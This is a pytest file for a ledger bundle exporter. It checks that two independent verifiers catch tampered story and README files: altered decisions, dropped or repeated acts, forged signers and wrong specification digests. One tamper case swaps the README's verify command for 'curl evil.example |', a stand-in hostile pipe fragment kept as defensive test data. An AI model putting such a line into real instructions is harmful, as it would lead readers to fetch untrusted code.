"""What a bundle tells in words: who tells it otherwise is found, by both checkers, at the entry."""

from __future__ import annotations

import json
import os
import subprocess
import zipfile
from collections.abc import Callable
from hashlib import sha256
from pathlib import Path

import pytest

from ledger import export, readme
from ledger.chain import canonical
from tests.verbs.commission import Clock, Commission, opened, signed
from tests.verbs.story import tell
from tests.verifiers import examined, js, maker
from verifiers.desk import readme as theirs

Files = dict[str, bytes]
ROOT = Path(__file__).parents[2]
STORY, README = "story.en.txt", "README.txt"
REQUIRED = ("V01", "V13", "V14", "V28")


@pytest.fixture(scope="module")
def commission(tmp_path_factory: pytest.TempPathFactory) -> Commission:
    """A commission whose vote was annulled."""
    made = opened(f"sqlite:///{tmp_path_factory.mktemp('ledger') / 'ledger.db'}", Clock())
    tell(made)
    return made


@pytest.fixture(scope="module")
def files(commission: Commission, tmp_path_factory: pytest.TempPathFactory) -> Files:
    """The files of the bundle."""
    path = tmp_path_factory.mktemp("bundle") / "bundle.zip"
    export.bundle(commission.ledger, path)
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _packed(files: Files) -> bytes:
    """A bundle whose manifest is right for these files."""
    known = [*maker.NAMES, README]
    names = [name for name in known if name in files]
    names += sorted(name for name in files if name.startswith("story."))
    listed = [
        {"bytes": len(files[n]), "name": n, "sha256": sha256(files[n]).hexdigest()} for n in names
    ]
    contents = canonical.loads(files["bundle.json"]) | {"files": listed}
    return maker.pack([("bundle.json", canonical.dumps(contents)), *((n, files[n]) for n in names)])


def _found(
    commission: Commission, changed: Files, folder: Path
) -> list[tuple[str, str, int | None]]:
    """What both checkers find: check, code and index."""
    trust = export.trust(commission.ledger, required_checks=REQUIRED)
    (folder / "bundle.zip").write_bytes(bundle := _packed(changed))
    (folder / "trust.json").write_bytes(trust)
    ours = examined.report(bundle, trust)
    (second,) = js.batch(folder, [("bundle", folder / "bundle.zip", folder / "trust.json")])
    assert second["verdict"] == ours["verdict"]
    told = [
        [
            (f["check"], f["code"], f["index"])
            for check in report["checks"]
            for f in check["findings"]
        ]
        for report in (ours, second)
    ]
    assert told[0] == told[1]
    return told[0]


def _paragraphs(files: Files) -> list[bytes]:
    return [text + b"\n\n" for text in files[STORY].split(b"\n\n")[:-1]]


def test_a_bundle_tells_what_a_person_would(files: Files) -> None:
    """The annulment as people read it: body, day, number, votes, who signed, what was decided."""
    (paragraph,) = (p.decode() for p in _paragraphs(files) if b"run-1 is annulled at" in p)
    lines = paragraph.splitlines()
    assert lines[0].startswith("#") and ", act " in lines[0]
    assert lines[1].startswith("  Recorded 2013-11-")
    assert any(line.startswith("  Decision ") and "adopted" in line for line in lines)
    assert any(line.startswith("  Signatures: ") and "nobody" not in line for line in lines)
    assert any(line.startswith("  1. ") for line in lines)


def test_nothing_is_wrong_with_an_honest_bundle(
    commission: Commission, files: Files, tmp_path: Path
) -> None:
    """The twin of the lies below."""
    assert _found(commission, files, tmp_path) == []


def test_the_same_readme_stands_in_ledger_verifier_and_specification() -> None:
    """None of the three can be changed alone."""
    values = {"origin": "{origin}", "id": "{id}", "spec": "{spec}"}
    text = (ROOT / "docs/spec/10-bundle.md").read_text()
    stated = text.partition("```text readme\n")[2].partition("```")[0]
    given = stated.replace("{first} to {last}", "3 to 7").encode()
    assert readme.readme(**values, first=3, last=7) == given
    assert theirs.readme(**values, first=3, last=7) == given


def test_a_bundle_names_the_text_of_the_specification(
    commission: Commission, files: Files, tmp_path: Path
) -> None:
    """By its digest, as anybody finds it; one of an earlier text is good, what is no digest is not."""
    folder = ROOT / "docs" / "spec"
    command = "sha256sum * | sha256sum"
    told = subprocess.run(["sh", "-c", command], cwd=folder, env={**os.environ, "LC_ALL": "C"}, capture_output=True, check=True)  # fmt: skip
    digest = told.stdout.split()[0]
    assert readme.specification().encode() == digest, "run `make verifier`"
    assert b"Specified   " + digest in files[README]
    assert command.encode() in files[README]
    other = files | {README: files[README].replace(digest, b"ab" * 32)}
    assert _found(commission, other, tmp_path) == []
    for wrong in (digest[:-1], digest.upper(), b"{spec}", b""):
        lying = files | {README: files[README].replace(digest, wrong)}
        assert _found(commission, lying, tmp_path) == [("V28", "readme_differs", None)], wrong


def _said(files: Files) -> tuple[Files, int]:
    at = next(n for n, p in enumerate(_paragraphs(files)) if b"run-1 is annulled at" in p)
    changed = files[STORY].replace(b"run-1 is annulled at", b"run-1 stands at", 1)
    return files | {STORY: changed}, at


def _left_out(files: Files) -> tuple[Files, int]:
    told = _paragraphs(files)
    return files | {STORY: b"".join(told[:7] + told[8:])}, 7


def _told_twice(files: Files) -> tuple[Files, int]:
    told = _paragraphs(files)
    return files | {STORY: b"".join([*told[:8], told[7], *told[8:]])}, 7


def _votes(files: Files) -> tuple[Files, int]:
    told = _paragraphs(files)
    at = next(n for n, p in enumerate(told) if b"Counted: " in p and b"nobody" not in p)
    told[at] = told[at].replace(b"Counted: ", b"Counted: Somebody (somebody), ")
    return files | {STORY: b"".join(told)}, at


@pytest.mark.parametrize("lie", [_said, _left_out, _told_twice, _votes])
def test_who_tells_an_act_otherwise_is_found_at_its_entry(
    lie: Callable[[Files], tuple[Files, int]],
    commission: Commission,
    files: Files,
    tmp_path: Path,
) -> None:
    """Another decision, an act kept silent, one told twice, signers who did not sign."""
    changed, index = lie(files)
    assert _found(commission, changed, tmp_path) == [("V28", "story_differs", index)]


def test_what_is_no_paragraph_of_an_entry_is_found(
    commission: Commission, files: Files, tmp_path: Path
) -> None:
    """Words behind the last entry; a story in a language that nobody adopted; another README."""
    more = files | {STORY: files[STORY] + b"And they lived happily.\n\n"}
    assert _found(commission, more, tmp_path) == [("V28", "story_differs", None)]
    other = files | {"story.sr.txt": files[STORY]}
    assert _found(commission, other, tmp_path) == [("V28", "story_differs", None)]
    told = files | {README: files[README].replace(b"eal-verify bundle", b"curl evil.example |")}
    assert _found(commission, told, tmp_path) == [("V28", "readme_differs", None)]
    without = {name: data for name, data in files.items() if name not in (STORY, README)}
    assert _found(commission, without, tmp_path) == []


def test_a_sentence_in_a_second_language_gives_a_second_story(
    files: Files, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """Both checkers make it anew; acts without such a sentence are told in the first language."""
    folder = tmp_path_factory.mktemp("two")
    made = opened(f"sqlite:///{folder / 'ledger.db'}", Clock())
    entries = [json.loads(line) for line in files["entries.jsonl"].splitlines()]
    declared = next(
        event["fields"]["declaration"]
        for entry in entries
        for event in entry["act"]["events"]
        if event["type"] == "declaration.adopted"
        and event["fields"]["declaration"]["name"] == "announcement.made"
    )
    serbian = {"language": "sr-Latn", "text": "Objavljeno: {text}"}
    again = declared | {"says": [*declared["says"], serbian], "version": declared["version"] + 1}
    made.record(made.administration(("declaration.adopted", {"declaration": again})))
    said = made.act(("announcement.made", {"about": None, "text": "Bez datuma."}))
    act = canonical.loads(said.act)
    act["events"][0]["version"] = again["version"]
    made.record(signed(act, ["person-a"]))
    export.bundle(made.ledger, folder / "bundle.zip")
    with zipfile.ZipFile(folder / "bundle.zip") as archive:
        told = {name: archive.read(name) for name in archive.namelist()}
    assert b"Objavljeno: Bez datuma." in told["story.sr-Latn.txt"]
    assert b"Objavljeno" not in told[STORY].replace(b"sr-Latn", b"")
    assert _found(made, told, folder) == []
    made.close()
